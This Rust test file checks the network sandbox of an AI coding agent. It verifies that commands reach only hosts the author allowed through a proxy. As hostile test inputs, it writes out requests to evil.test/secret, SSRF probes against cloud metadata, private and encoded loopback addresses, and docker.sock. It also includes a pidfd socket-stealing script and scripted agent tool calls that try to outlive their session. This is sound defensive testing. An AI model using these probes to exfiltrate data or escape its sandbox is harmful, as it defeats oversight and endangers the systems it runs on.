//! The network that the author granted, and no more of it. Attack 7.

use std::io::{BufRead as _, BufReader, Read as _};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use super::*;

/// Asks for an address as programs do that follow HTTP_PROXY; says how it went.
const GET: &str = r#"
import sys, urllib.request, urllib.error
for address in sys.argv[1:]:
    try:
        print(urllib.request.urlopen(address, timeout=10).read().decode().strip())
    except urllib.error.HTTPError as e:
        print(e.code, e.read().decode().strip())
    except OSError as e:
        print("no way")
"#;

/// Opens a tunnel to each HOST:PORT; says what the proxy said, and what came through.
const TUNNEL: &str = r#"
import sys, socket
for at in sys.argv[1:]:
    s = socket.create_connection(("127.0.0.1", 3128), 10)
    s.sendall(f"CONNECT {at} HTTP/1.1\r\nHost: named.test\r\n\r\n".encode())
    said = b""
    while b"\r\n\r\n" not in said:
        said += s.recv(1)
    status = said.decode().splitlines()[0]
    print(status)
    if " 200 " in status:
        s.sendall(b"GET /by-tunnel HTTP/1.0\r\n\r\n")
        said = b""
        while True:
            came = s.recv(4096)
            if not came:
                break
            said += came
        print(said.decode().splitlines()[-1])
"#;

/// Tries past the proxy.
const DIRECT: &str = r#"
import sys, socket
for at in sys.argv[1:]:
    host, port = at.rsplit(":", 1)
    for kind in [socket.SOCK_STREAM, socket.SOCK_DGRAM]:
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(5)
            s.connect((host, int(port)))
            if kind == socket.SOCK_DGRAM:
                s.send(b"x")
                s.recv(1)
            print("reached", at)
        except OSError:
            print("refused")
"#;

/// A server on this machine that answers each request with `reached`.
struct Site {
    port: u16,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Site {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let heard = Arc::<Mutex<Vec<String>>>::default();
        let kept = Arc::clone(&heard);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { return };
                let lines = BufReader::new(stream.try_clone().unwrap()).lines();
                let head: Vec<String> = lines
                    .map_while(Result::ok)
                    .take_while(|line| !line.is_empty())
                    .collect();
                kept.lock().unwrap().push(head.join("\n"));
                let _ = stream.write_all(
                    b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 8\r\n\r\nreached\n",
                );
            }
        });
        Self { port, heard }
    }

    fn heard(&self) -> Vec<String> {
        self.heard.lock().unwrap().clone()
    }
}

fn bench(kind: Kind, network: &str, run: &[&str]) -> Bench {
    let settings = format!("[permissions]\ndefault = 'allow'\n[sandbox]\nnetwork = {network}\n");
    let mut bench = Bench::with(kind, commands(run), &settings);
    bench.hosts = String::from(
        "named.test=127.0.0.1,a.named.test=127.0.0.1,evil.test=127.0.0.1,meta.test=169.254.169.254,lan.test=10.0.0.7",
    );
    for (file, program) in [
        ("get.py", GET),
        ("tunnel.py", TUNNEL),
        ("direct.py", DIRECT),
    ] {
        bench.workspace.write(file, program);
    }
    bench
}

fn with_bubblewrap() -> bool {
    kinds().contains(&Kind::Bubblewrap)
}

#[test]
fn attack_07_of_the_network_a_command_reaches_the_listed_hosts_and_those_by_the_proxy() {
    if !with_bubblewrap() {
        return;
    }
    let site = Site::start();
    let port = site.port;
    let run = [
        &format!("python3 get.py 'http://named.test:{port}/a?b=c' http://NAMED.test.:{port}/"),
        &format!("python3 tunnel.py named.test:{port}"),
        &format!(
            "python3 get.py http://evil.test:{port}/secret?x=y http://named.test/ http://127.0.0.1:{port}/"
        ),
        &format!("python3 tunnel.py evil.test:{port} evil.test:{port} a.named.test:{port}"),
        &format!("python3 direct.py 127.0.0.1:{port} 192.0.2.1:80"),
        "env | grep -i _proxy | sort",
        // What it serves itself.
        "python3 -m http.server 8000 >/dev/null 2>&1 & until python3 get.py http://localhost:8000/get.py | grep -q urllib; do :; done; echo own",
        "echo fine",
    ];
    let run: Vec<&str> = run.iter().map(|c| c.as_ref()).collect();
    let bench = bench(
        Kind::Bubblewrap,
        &format!("['named.test:{port}', 'crates.io']"),
        &run,
    );
    let mut editor = bench.editor();
    let told = bench.run(&mut editor);
    assert_eq!(told[0], "reached\nreached\n");
    assert_eq!(told[1], "HTTP/1.1 200 OK\nreached\n");
    let refused = |at: &str, entry: &str| {
        format!(
            "{at} was not let through: it is not among the hosts of `sandbox.network`. Only the author can open it, with \"{entry}\" in `sandbox.network` in their own config.toml."
        )
    };
    let evil = format!("evil.test:{port}");
    let first = refused(&evil, &evil);
    let second = refused("named.test:80", "named.test");
    assert_eq!(
        told[2],
        format!("403 postil: {first}\n403 postil: {second}\nno way\n({first})\n({second})\n")
    );
    let below = format!("a.named.test:{port}");
    assert_eq!(
        told[3],
        format!(
            "{}({first})\n({})\n",
            "HTTP/1.1 403 Forbidden\n".repeat(3),
            refused(&below, &below)
        )
    );
    assert_eq!(told[4], "refused\n".repeat(4));
    let environment = told[5]
        .replace("http://127.0.0.1:3128", "P")
        .replace('\n', " ");
    assert_eq!(
        environment,
        "ALL_PROXY=P HTTPS_PROXY=P HTTP_PROXY=P NODE_USE_ENV_PROXY=1 NO_PROXY=localhost,127.0.0.1,::1 all_proxy=P http_proxy=P https_proxy=P no_proxy=localhost,127.0.0.1,::1 "
    );
    assert_eq!(told[6], "own\n");
    assert_eq!(told[7], "fine\n", "what was refused is told once");
    let heard = site.heard();
    assert_eq!(heard.len(), 3, "{heard:#?}");
    assert!(heard[0].starts_with("GET /a?b=c HTTP/1.1\n"), "{heard:#?}");
    bench.assert_no_canary(&editor);
    // What was asked is nobody's business but the server's that was asked.
    let log = editor.state().stderr.clone();
    assert!(!log.contains("secret") && !log.contains("x=y"), "{log}");
    let says = format!(
        "through an HTTP proxy alone (HTTPS_PROXY and the like are set) these hosts and no others: named.test:{port}, crates.io"
    );
    let asked = bench.model.requests();
    assert!(asked[0].body.to_string().contains(&says), "the model knows");
}

#[test]
fn attack_07_where_every_host_is_granted_no_private_address_is_reached() {
    if !with_bubblewrap() {
        return;
    }
    let site = Site::start();
    let port = site.port;
    let run = [
        &format!(
            "python3 get.py http://named.test:{port}/ http://meta.test/latest http://169.254.169.254/ http://lan.test/ http://10.0.0.7/ http://2130706433:{port}/ http://127.1:{port}/ 'http://[::ffff:7f00:1]:{port}/' | cut -c 1-3"
        ),
        &format!(
            "python3 tunnel.py named.test:{port} 127.0.0.1:{port} '[::1]:{port}' localhost:{port} 169.254.169.254:80 0.0.0.0:{port} unix:/run/docker.sock /run/docker.sock"
        ),
        &format!("python3 direct.py 127.0.0.1:{port} 10.0.0.7:80 169.254.169.254:80 192.0.2.1:53"),
    ];
    let run: Vec<&str> = run.iter().map(|c| c.as_ref()).collect();
    let bench = bench(Kind::Bubblewrap, "true", &run);
    let mut editor = bench.editor();
    let told = bench.run(&mut editor);
    assert!(told[0].starts_with(&"403\n".repeat(8)), "{}", told[0]);
    for says in [
        format!(
            "(named.test:{port} was not let through: its name leads to 127.0.0.1, this machine. Only the author can open it, with \"named.test:{port}\" in `web.allow` in their own config.toml.)"
        ),
        String::from(
            "(meta.test:80 was not let through: its name leads to 169.254.169.254, a cloud's metadata service. No setting opens it by this name.)",
        ),
        String::from(
            "(lan.test:80 was not let through: its name leads to 10.0.0.7, a private network.",
        ),
    ] {
        assert!(told[0].contains(&says), "{says}\n{}", told[0]);
    }
    assert!(
        told[1].starts_with(&"HTTP/1.1 403 Forbidden\n".repeat(6)),
        "{}",
        told[1]
    );
    assert_eq!(
        told[1].matches("HTTP/1.1 400 Bad Request\n").count(),
        2,
        "{}",
        told[1]
    );
    assert_eq!(told[2], "refused\n".repeat(8));
    assert!(site.heard().is_empty(), "{:?}", site.heard());
}

#[test]
fn attack_07_the_way_out_is_all_there_is_in_a_commands_network() {
    if !with_bubblewrap() {
        return;
    }
    let take = r#"
import ctypes, os
l = ctypes.CDLL(None)
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid == os.getpid():
        continue
    try:
        fd = os.pidfd_open(pid)
        for n in range(16):
            got = l.syscall(438, fd, n, 0)
            if got >= 0 and os.readlink(f"/proc/self/fd/{got}").startswith("socket"):
                print("took a socket of", pid)
    except OSError:
        pass
print("over")
"#;
    let run = [
        "ls /proc/$$/fd; readlink /proc/$$/fd/0",
        // Who listens: the proxy, in hexadecimal; no socket of a path or a name.
        "awk 'NR > 1 && $4 == \"0A\" {print $2}' /proc/net/tcp; tail -qn +2 /proc/net/tcp6 /proc/net/udp /proc/net/unix; tail -n +3 /proc/net/dev | cut -d: -f1",
        "python3 take.py",
        "printf 'GET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n' > ask; python3 -c 'import socket; s=socket.create_connection((\"127.0.0.1\",3128)); s.sendall(open(\"ask\",\"rb\").read()); print(s.recv(9999).decode().splitlines()[0])'",
        "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\",3128))' 2>&1 | tail -1",
    ];
    let bench = bench(Kind::Bubblewrap, "true", &run);
    bench.workspace.write("take.py", take);
    let mut editor = bench.editor();
    let told = bench.run(&mut editor);
    assert_eq!(told[0], "0\n1\n2\n/dev/null\n");
    assert_eq!(told[1], "0100007F:0C38\n    lo\n");
    assert_eq!(told[2], "over\n");
    assert_eq!(told[3], "HTTP/1.1 400 Bad Request\n");
    assert!(told[4].contains("Address already in use"), "{}", told[4]);
}

#[test]
fn attack_07_the_way_out_ends_with_its_command() {
    if !with_bubblewrap() {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hold = format!(
        "import socket, sys, time\ns = socket.create_connection((\"127.0.0.1\", 3128))\ns.sendall(b\"CONNECT named.test:{port} HTTP/1.1\\r\\n\\r\\n\")\nassert b\" 200 \" in s.recv(4096)\nopen(sys.argv[1], \"w\")\ntime.sleep(600)\n"
    );
    let mut bench = bench(Kind::Bubblewrap, &format!("['named.test:{port}']"), &[]);
    bench.workspace.write("hold.py", &hold);
    let mut last = 0;
    let mut step = |tool: &str, input: Value| {
        last += 1;
        Step::calls(vec![call(&format!("toolu_{last}"), tool, input)])
    };
    let script = vec![
        // One that is ended, one that leaves another behind, one that ends with the turn.
        step("bash_background", json!({"command": "python3 hold.py one"})),
        step("bash", json!({"command": "until [ -e one ]; do :; done"})),
        step("bash_kill", json!({"id": 1})),
        step(
            "bash",
            json!({"command": "setsid python3 hold.py two & until [ -e two ]; do :; done"}),
        ),
        step(
            "bash_background",
            json!({"command": "python3 hold.py three"}),
        ),
        step(
            "bash",
            json!({"command": "until [ -e three ]; do :; done; echo held"}),
        ),
        Step::text("Done."),
    ];
    bench.model = Model::start(script);
    let mut editor = bench.editor();
    let told = bench.run(&mut editor);
    assert_eq!(told[5], "held\n", "{told:?}");
    for _ in 0..3 {
        let (mut stream, _) = listener.accept().unwrap();
        let mut all = Vec::new();
        assert_eq!(stream.read_to_end(&mut all).unwrap_or(0), 0);
    }
}

#[test]
fn attack_07_what_a_background_command_was_refused_is_told_while_it_runs() {
    if !with_bubblewrap() {
        return;
    }
    let mut bench = bench(Kind::Bubblewrap, "['named.test']", &[]);
    let asks = "python3 tunnel.py evil.test:443 lan.test:80 evil.test:443; echo > asked; sleep 600";
    let look = || Step::calls(vec![call("toolu_l", "bash_output", json!({"id": 1}))]);
    bench.model = Model::start(vec![
        Step::calls(vec![call(
            "toolu_b",
            "bash_background",
            json!({"command": asks}),
        )]),
        Step::calls(vec![call(
            "toolu_w",
            "bash",
            json!({"command": "until [ -e asked ]; do :; done"}),
        )]),
        look(),
        look(),
        Step::text("Done."),
    ]);
    let mut editor = bench.editor();
    let told = bench.run(&mut editor);
    let lines: Vec<&str> = told[2].lines().collect();
    assert_eq!(lines.len(), 6, "{}", told[2]);
    assert_eq!(lines[..3], ["HTTP/1.1 403 Forbidden"; 3]);
    assert!(
        lines[3].starts_with("(evil.test:443 was not let through"),
        "{}",
        told[2]
    );
    assert!(
        lines[4].starts_with("(lan.test:80 was not let through"),
        "{}",
        told[2]
    );
    assert_eq!(lines[5], "(running)");
    assert!(
        told[3].starts_with("(running for ") && told[3].ends_with(" s, nothing new)"),
        "{}",
        told[3]
    );
}

#[test]
fn attack_07_where_the_network_cannot_be_narrowed_there_is_none() {
    if !kinds().contains(&Kind::Landlock) {
        return;
    }
    let site = Site::start();
    let port = site.port;
    for network in [
        "true",
        &format!("['named.test:{port}', '127.0.0.1:{port}']"),
    ] {
        let run = [
            &format!("python3 direct.py 127.0.0.1:{port}"),
            "env | grep -ci _proxy",
        ];
        let bench = bench(Kind::Landlock, network, &run.map(|c: &str| c));
        let mut editor = bench.editor();
        let told = bench.run(&mut editor);
        assert_eq!(
            told[0],
            "refused\nrefused\n(It had no network: `sandbox.network` lets commands through a proxy, for which this machine has no bubblewrap. `postil doctor` tells the author more.)\n"
        );
        assert_eq!(told[1], "0\n(exit code: 1)\n", "it is told once");
        let mut doctor = bench.workspace.postil();
        let doctor = doctor.arg("doctor").envs(bench.env()).output().unwrap();
        let text = String::from_utf8_lossy(&doctor.stdout);
        assert!(
            text.contains(
                "of commands: none, for what sandbox.network grants goes through a proxy"
            ),
            "{text}"
        );
    }
    assert!(site.heard().is_empty());
}

#[test]
fn a_command_that_finds_no_host_is_told_once_which_setting_helps() {
    let ask = "python3 -c 'import socket; socket.getaddrinfo(\"named.test\", 80)'";
    let run = [
        &format!("{ask} 2>&1 | tail -1; {ask} 2>&1 | tail -1"),
        "curl -sS http://named.test/; true",
        "echo fine",
    ];
    let said = "(Commands have no network: only the author can open it, with `sandbox.network` in their own config.toml.)\n";
    for kind in kinds() {
        let bench = Bench::new(kind, commands(&run.map(|c: &str| c)));
        let mut editor = bench.editor();
        let told = bench.run(&mut editor);
        for told in &told[..2] {
            assert!(told.ends_with(said), "{kind:?}: {told}");
            assert_eq!(told.matches("sandbox.network").count(), 1, "{told}");
        }
        assert_eq!(told[2], "fine\n");
    }
}

#[test]
fn attack_07_the_whole_network_is_there_only_where_it_was_named() {
    for kind in kinds() {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let connect = python(&format!(
            "import socket; socket.create_connection((\"127.0.0.1\", {port}), 5); print(\"reached\")"
        ));
        let bench = bench(kind, "'whole'", &[&connect, "env | grep -ci _proxy"]);
        let mut editor = bench.editor();
        let told = bench.run(&mut editor);
        assert_eq!(told, ["reached\n", "0\n(exit code: 1)\n"], "{kind:?}");
        assert!(listener.accept().is_ok());
    }
}

#[test]
fn attack_07_a_setting_of_the_network_that_is_wrong_opens_nothing() {
    let site = Site::start();
    let port = site.port;
    for kind in kinds() {
        for network in [
            "'all'",
            "['*']",
            "['https://named.test']",
            "['named.test', 7]",
            "[]",
            "'true'",
        ] {
            let direct = format!("python3 direct.py 127.0.0.1:{port}; env | grep -ci _proxy");
            let bench = bench(kind, network, &[&direct]);
            // Nor does a repository's own word count, or an editor's.
            bench
                .workspace
                .write("postil.toml", "[sandbox]\nnetwork = 'whole'\n");
            let mut editor = bench.editor();
            let told = bench.run(&mut editor);
            assert_eq!(
                told,
                ["refused\nrefused\n0\n(exit code: 1)\n"],
                "{kind:?} {network}"
            );
        }
    }
    assert!(site.heard().is_empty());
}
